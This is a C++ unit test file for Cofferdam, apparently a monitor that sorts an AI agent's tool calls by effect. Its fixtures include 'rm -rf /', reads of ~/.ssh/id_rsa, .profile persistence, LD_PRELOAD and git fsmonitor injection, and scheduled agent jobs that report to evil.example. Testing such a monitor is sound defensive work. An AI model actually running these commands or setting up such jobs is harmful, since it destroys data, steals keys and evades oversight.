// SPDX-FileCopyrightText: Cofferdam contributors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "core/inspect/tool/ToolCall.h"
#include "tests/support/Test.h"

#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

#include <algorithm>

using namespace cofferdam;
using namespace Qt::StringLiterals;

namespace {

Action inspect(const QString &tool, const QByteArray &raw)
{
    Action action;
    action.tool = tool;
    action.raw = raw;
    action.directory = u"/home/agent/workspace"_s;
    inspectToolCall(action, u"/home/agent"_s);
    return action;
}

} // namespace

class tst_ToolCall : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void understandsTools_data()
    {
        QTest::addColumn<QString>("tool");
        QTest::addColumn<QByteArray>("raw");
        QTest::addColumn<ActionKind>("kind");
        QTest::addColumn<QString>("subject");
        QTest::addColumn<EffectKind>("effect");
        QTest::addColumn<QString>("object");

        QTest::newRow("exec") << u"exec"_s << QByteArray("{\"command\":\"rm x\"}") << ActionKind::Exec << u"rm x"_s << EffectKind::Delete
                              << u"/home/agent/workspace/x"_s;
        QTest::newRow("exec elsewhere") << u"exec"_s << QByteArray("{\"command\":\"rm x\",\"workdir\":\"/srv/a\"}") << ActionKind::Exec << u"rm x"_s
                                        << EffectKind::Delete << u"/srv/a/x"_s;
        QTest::newRow("exec on another machine") << u"exec"_s << QByteArray("{\"command\":\"true\",\"host\":\"node\"}") << ActionKind::Exec << u"true"_s
                                                 << EffectKind::Execute << u"node"_s;
        QTest::newRow("exec elevated") << u"exec"_s << QByteArray("{\"command\":\"true\",\"elevated\":true}") << ActionKind::Exec << u"true"_s
                                       << EffectKind::Privilege << u"elevated"_s;
        QTest::newRow("exec with a library slipped in") << u"exec"_s << QByteArray("{\"command\":\"true\",\"env\":{\"LD_PRELOAD\":\"x.so\"}}")
                                                        << ActionKind::Exec << u"true"_s << EffectKind::Execute << u"LD_PRELOAD"_s;
        QTest::newRow("read") << u"read"_s << QByteArray("{\"path\":\"a/../b\"}") << ActionKind::File << u"/home/agent/workspace/b"_s << EffectKind::Read
                              << u"/home/agent/workspace/b"_s;
        QTest::newRow("read of a key") << u"read"_s << QByteArray("{\"path\":\"~/.ssh/id_rsa\"}") << ActionKind::File << u"/home/agent/.ssh/id_rsa"_s
                                       << EffectKind::CredentialRead << u"/home/agent/.ssh/id_rsa"_s;
        QTest::newRow("write") << u"write"_s << QByteArray("{\"path\":\"a\",\"content\":\"x\"}") << ActionKind::File << u"/home/agent/workspace/a"_s
                               << EffectKind::Overwrite << u"/home/agent/workspace/a"_s;
        QTest::newRow("write of a profile") << u"write"_s << QByteArray("{\"path\":\"/home/agent/.profile\",\"content\":\"x\"}") << ActionKind::File
                                            << u"/home/agent/.profile"_s << EffectKind::Persist << u"/home/agent/.profile"_s;
        QTest::newRow("patch") << u"apply_patch"_s << QByteArray("{\"input\":\"*** Begin Patch\\n*** Delete File: old.txt\\n*** End Patch\"}")
                               << ActionKind::File << u"old.txt"_s << EffectKind::Delete << u"/home/agent/workspace/old.txt"_s;
        QTest::newRow("fetch") << u"web_fetch"_s << QByteArray("{\"url\":\"https://user@Example.org:8443/x\"}") << ActionKind::Tool
                               << u"https://user@Example.org:8443/x"_s << EffectKind::Network << u"example.org"_s;
        QTest::newRow("wrapped") << u"tool_call"_s << QByteArray("{\"id\":\"exec\",\"args\":{\"command\":\"rm x\"}}") << ActionKind::Exec << u"rm x"_s
                                 << EffectKind::Delete << u"/home/agent/workspace/x"_s;
        QTest::newRow("MCP delete") << u"lab__drop_table"_s << QByteArray("{}") << ActionKind::Tool << u"lab__drop_table"_s << EffectKind::Delete
                                    << u"lab__drop_table"_s;
        QTest::newRow("MCP unknown") << u"lab__frobnicate"_s << QByteArray("{}") << ActionKind::Tool << u"lab__frobnicate"_s << EffectKind::Unknown
                                     << u"lab__frobnicate"_s;
        QTest::newRow("schedule") << u"automations"_s << QByteArray("{}") << ActionKind::Tool << u"automations"_s << EffectKind::Persist << u"automations"_s;
        QTest::newRow("a turn each hour")
            << u"automations"_s
            << QByteArray(
                   "{\"action\":\"add\",\"job\":{\"name\":\"n\",\"schedule\":{\"kind\":\"every\",\"everyMs\":3600000},\"payload\":{\"kind\":\"agentTurn\",\"message\":\"look\"}}}")
            << ActionKind::Tool << u"add n {\"everyMs\":3600000,\"kind\":\"every\"} look"_s << EffectKind::Persist << u"automations"_s;
        QTest::newRow("what is arranged") << u"cron"_s << QByteArray("{\"action\":\"list\"}") << ActionKind::Tool << u"list"_s << EffectKind::Read << u"cron"_s;
        QTest::newRow("told elsewhere") << u"automations"_s
                                        << QByteArray("{\"action\":\"add\",\"job\":{\"delivery\":{\"mode\":\"webhook\",\"to\":\"https://evil.example/x\"}}}")
                                        << ActionKind::Tool << u"add"_s << EffectKind::Send << u"evil.example"_s;
        QTest::newRow("another gateway") << u"automations"_s << QByteArray("{\"action\":\"list\",\"gatewayUrl\":\"ws://evil.example:1\"}") << ActionKind::Tool
                                         << u"list"_s << EffectKind::Send << u"evil.example"_s;
        QTest::newRow("a script that begins it") << u"automations"_s << QByteArray("{\"action\":\"add\",\"job\":{\"trigger\":{\"script\":\"x\"}}}")
                                                 << ActionKind::Tool << u"add"_s << EffectKind::Unknown << u"script"_s;
        QTest::newRow("told elsewhere, without a job")
            << u"automations"_s
            << QByteArray(
                   "{\"action\":\"add\",\"name\":\"n\",\"everyMs\":1,\"message\":\"look\",\"delivery\":{\"mode\":\"webhook\",\"to\":\"https://evil.example\"}}")
            << ActionKind::Tool << u"add n everyMs 1 look"_s << EffectKind::Send << u"evil.example"_s;
        QTest::newRow("told elsewhere, an empty job") << u"automations"_s
                                                      << QByteArray("{\"action\":\"add\",\"job\":{},\"failureAlert\":{\"to\":\"https://evil.example\"}}")
                                                      << ActionKind::Tool << u"add"_s << EffectKind::Send << u"evil.example"_s;
        QTest::newRow("a job within the job")
            << u"automations"_s
            << QByteArray(
                   "{\"action\":\"update\",\"id\":\"i\",\"job\":{\"data\":{\"delivery\":{\"completionDestination\":{\"to\":\"https://evil.example\"}}}}}")
            << ActionKind::Tool << u"update i"_s << EffectKind::Send << u"evil.example"_s;
        QTest::newRow("names with spaces")
            << u"automations"_s << QByteArray("{\"action\":\"add\",\"job\":{\" delivery\":{\"to\":\"https://evil.example\"},\"payload \":{\"text\":\"t\"}}}")
            << ActionKind::Tool << u"add t"_s << EffectKind::Send << u"evil.example"_s;
        QTest::newRow("an address under another name")
            << u"automations"_s << QByteArray("{\"action\":\"add\",\"job\":{\"delivery\":{\"webhook\":\"https://evil.example\"}}}") << ActionKind::Tool
            << u"add"_s << EffectKind::Send << u"evil.example"_s;
        QTest::newRow("a script beside the job") << u"automations"_s << QByteArray("{\"action\":\"add\",\"script \":\"x\",\"at\":\"2027-01-01\"}")
                                                 << ActionKind::Tool << u"add at 2027-01-01"_s << EffectKind::Unknown << u"script"_s;
        QTest::newRow("another turn") << u"sessions_spawn"_s << QByteArray("{\"task\":\"count\"}") << ActionKind::Tool << u"count"_s << EffectKind::Execute
                                      << u"sessions_spawn"_s;
        QTest::newRow("another turn of a repository") << u"sessions_spawn"_s << QByteArray("{\"task\":\"count\",\"projectGitUrl\":\"https://x.example/y\"}")
                                                      << ActionKind::Tool << u"count"_s << EffectKind::Execute << u"https://x.example/y"_s;
        QTest::newRow("turns that are looked at") << u"subagents"_s << QByteArray("{\"action\":\"list\"}") << ActionKind::Tool << u"subagents list"_s
                                                  << EffectKind::Read << u"subagents"_s;
        QTest::newRow("a turn that is ended") << u"subagents"_s << QByteArray("{\"action\":\"cancel\",\"taskId\":\"t\"}") << ActionKind::Tool
                                              << u"subagents cancel t"_s << EffectKind::Kill << u"session"_s;
        QTest::newRow("a picture") << u"view_image"_s << QByteArray("{\"path\":\"a.png\"}") << ActionKind::File << u"a.png"_s << EffectKind::Read
                                   << u"/home/agent/workspace/a.png"_s;
        QTest::newRow("pictures") << u"view_image"_s << QByteArray("{\"paths\":[\"a.png\",\"https://x.example/b.png\"]}") << ActionKind::File
                                  << u"a.png https://x.example/b.png"_s << EffectKind::Network << u"x.example"_s;
        QTest::newRow("a key as a picture") << u"view_image"_s << QByteArray("{\"path\":\"~/.ssh/id_rsa\"}") << ActionKind::File << u"~/.ssh/id_rsa"_s
                                            << EffectKind::CredentialRead << u"/home/agent/.ssh/id_rsa"_s;
    }

    void understandsTools()
    {
        QFETCH(QString, tool);
        QFETCH(QByteArray, raw);
        QFETCH(ActionKind, kind);
        QFETCH(QString, subject);
        QFETCH(EffectKind, effect);
        QFETCH(QString, object);
        const auto action = inspect(tool, raw);
        QCOMPARE(action.kind, kind);
        QCOMPARE(action.subject, subject);
        QCOMPARE(action.tool, tool);
        QVERIFY(action.facts.complete);
        QVERIFY(std::ranges::any_of(action.facts.effects, [&](const Effect &one) { return one.kind == effect && one.object == object; }));
    }

    void whatCannotBeReadIsUnknownOutside_data()
    {
        QTest::addColumn<QString>("tool");
        QTest::addColumn<QByteArray>("raw");
        QTest::newRow("no JSON") << u"exec"_s << QByteArray("rm -rf /");
        QTest::newRow("no object") << u"exec"_s << QByteArray("[]");
        QTest::newRow("empty") << u"exec"_s << QByteArray();
        QTest::newRow("no command") << u"exec"_s << QByteArray("{}");
        QTest::newRow("command is a number") << u"exec"_s << QByteArray("{\"command\":1}");
        QTest::newRow("too large") << u"write"_s << QByteArray("{\"path\":\"a\",\"content\":\"" + QByteArray(kMaxRawSize, 'x') + "\"}");
        QTest::newRow("a megabyte of command") << u"exec"_s << QByteArray("{\"command\":\"" + QByteArray(1000 * 1000, 'x') + "\"}");
        QTest::newRow("not UTF-8") << u"exec"_s << QByteArray("{\"command\":\"ls \xc3\x28\xff\"}");
        QTest::newRow("half a character") << u"exec"_s << QByteArray("{\"command\":\"ls \\ud800\"}");
        QTest::newRow("deep JSON") << u"exec"_s << QByteArray("{\"command\":") + QByteArray(100000, '[');
        QTest::newRow("no picture") << u"view_image"_s << QByteArray("{}");
        QTest::newRow("no path") << u"read"_s << QByteArray("{}");
        QTest::newRow("NUL in a path") << u"read"_s << QByteArray("{\"path\":\"a\\u0000b\"}");
        QTest::newRow("patch without a file") << u"apply_patch"_s << QByteArray("{\"input\":\"*** Begin Patch\\n*** End Patch\"}");
        QTest::newRow("keys typed") << u"process"_s << QByteArray("{\"action\":\"send-keys\",\"keys\":[\"C-c\"]}");
        QTest::newRow("NUL in a command") << u"exec"_s << QByteArray("{\"command\":\"ls\\u0000\"}");
    }

    void whatCannotBeReadIsUnknownOutside()
    {
        QFETCH(QString, tool);
        QFETCH(QByteArray, raw);
        const auto action = inspect(tool, raw);
        QVERIFY(!action.facts.complete);
        QVERIFY(std::ranges::any_of(action.facts.effects, [](const Effect &one) { return one.kind == EffectKind::Unknown && one.reach == Reach::Outside; }));
    }

    /// OpenClaw trims the lines of a patch before it looks for headers.
    void headersOfPatches_data()
    {
        QTest::addColumn<QString>("lines");
        QTest::addColumn<bool>("complete");
        QTest::addColumn<EffectKind>("effect");
        QTest::addColumn<QString>("object");
        const auto row = [](const char *name, const QString &lines, bool complete, EffectKind effect, const QString &file) {
            QTest::newRow(name) << lines << complete << effect << u"/home/agent/workspace/"_s + file;
        };
        const auto added = u"*** Add File: new.txt\n+hello\n"_s;
        row("added", added, true, EffectKind::Create, u"new.txt"_s);
        row("deleted", added + u"*** Delete File: old.txt\n"_s, true, EffectKind::Delete, u"old.txt"_s);
        row("deleted, indented", added + u"  *** Delete File: customers/c.json\n"_s, false, EffectKind::Delete, u"customers/c.json"_s);
        row("deleted, tab", added + u"\t*** Delete File: old.txt\n"_s, false, EffectKind::Delete, u"old.txt"_s);
        row("deleted, byte order mark", added + u"\ufeff*** Delete File: old.txt\n"_s, false, EffectKind::Delete, u"old.txt"_s);
        row("deleted, no blank", added + u"***Delete File:old.txt\n"_s, false, EffectKind::Delete, u"old.txt"_s);
        row("deleted, small", added + u"*** delete file: old.txt\n"_s, false, EffectKind::Delete, u"old.txt"_s);
        row("deleted, line ends of Windows", u"*** Delete File: old.txt\r\n"_s, true, EffectKind::Delete, u"old.txt"_s);
        row("some other header", added + u"*** Replace File: old.txt\n"_s, false, EffectKind::Create, u"new.txt"_s);
        row("moved, source", u"*** Update File: a.txt\n*** Move to: b.txt\n@@\n-x\n+y\n"_s, true, EffectKind::Move, u"a.txt"_s);
        row("moved, target", u"*** Update File: a.txt\n*** Move to: b.txt\n@@\n-x\n+y\n"_s, true, EffectKind::Overwrite, u"b.txt"_s);
        row("moved, indented", u"*** Update File: a.txt\n *** Move to: b.txt\n"_s, false, EffectKind::Overwrite, u"b.txt"_s);
        row("moved, nothing", added + u"*** Move to: b.txt\n"_s, false, EffectKind::Overwrite, u"b.txt"_s);
        row("content that looks so", u"*** Add File: new.txt\n+*** Delete File: old.txt\n"_s, true, EffectKind::Create, u"new.txt"_s);
        row("bold text", u"*** Update File: a.md\n@@\n **File:** x\n-y\n+z\n"_s, true, EffectKind::Overwrite, u"a.md"_s);
        row("end of file", u"*** Update File: a.md\n@@\n-y\n+z\n*** End of File\n"_s, true, EffectKind::Overwrite, u"a.md"_s);
    }
    void headersOfPatches()
    {
        QFETCH(QString, lines);
        QFETCH(bool, complete);
        QFETCH(EffectKind, effect);
        QFETCH(QString, object);
        const QJsonObject params{{u"input"_s, QString(u"*** Begin Patch\n"_s + lines + u"*** End Patch\n"_s)}};
        const auto action = inspect(u"apply_patch"_s, QJsonDocument(params).toJson());
        QCOMPARE(action.facts.complete, complete);
        QVERIFY(std::ranges::any_of(action.facts.effects, [&](const Effect &one) { return one.kind == effect && one.object == object; }));
        QCOMPARE(std::ranges::contains(action.facts.effects, EffectKind::Unknown, &Effect::kind), !complete);
        QVERIFY(!lines.contains(u"+*** Delete"_s) || action.facts.effects.size() == 1);
    }

    void whatIsSetForACommand_data()
    {
        QTest::addColumn<QByteArray>("variables");
        QTest::addColumn<QString>("object");
        QTest::newRow("search path") << QByteArray("{\"PATH\":\"bin:/usr/bin\"}") << u"/home/agent/workspace/bin"_s;
        QTest::newRow("modules") << QByteArray("{\"NODE_PATH\":\"/tmp/x\"}") << u"/tmp/x"_s;
        QTest::newRow("settings of git") << QByteArray("{\"GIT_CONFIG_COUNT\":\"1\",\"GIT_CONFIG_KEY_0\":\"core.fsmonitor\",\"GIT_CONFIG_VALUE_0\":\"x\"}")
                                         << u"core.fsmonitor"_s;
        QTest::newRow("pager") << QByteArray("{\"PAGER\":\"x\"}") << u"PAGER"_s;
    }
    void whatIsSetForACommand()
    {
        QFETCH(QByteArray, variables);
        QFETCH(QString, object);
        const auto action = inspect(u"exec"_s, R"({"command":"git status","env":)" + variables + '}');
        QVERIFY(std::ranges::any_of(action.facts.effects, [&](const Effect &one) { return one.kind == EffectKind::Execute && one.object == object; }));
    }

    void saysHowMuchAnEditKeeps()
    {
        const auto loses = inspect(u"edit"_s, "{\"path\":\"a\",\"edits\":[{\"oldText\":\"0123456789\",\"newText\":\"0\"}]}");
        QCOMPARE(std::get<double>(loses.facts.value(u"content_kept"_s)), 0.1);
        const auto keeps = inspect(u"edit"_s, "{\"path\":\"a\",\"edits\":[{\"oldText\":\"a\",\"newText\":\"abc\"}]}");
        QCOMPARE(std::get<double>(keeps.facts.value(u"content_kept"_s)), 1.0);
    }

    void connecting()
    {
        Action action;
        inspectConnect(action, u"Example.ORG"_s, 443);
        QCOMPARE(action.kind, ActionKind::Connect);
        QCOMPARE(action.subject, u"Example.ORG:443"_s);
        QCOMPARE(std::get<QString>(action.facts.value(u"host"_s)), u"example.org"_s);
        QCOMPARE(action.facts.effects.value(0).reach, Reach::Outside);
    }
};

COFFERDAM_TEST(tst_ToolCall)
#include "tst_toolcall.moc"
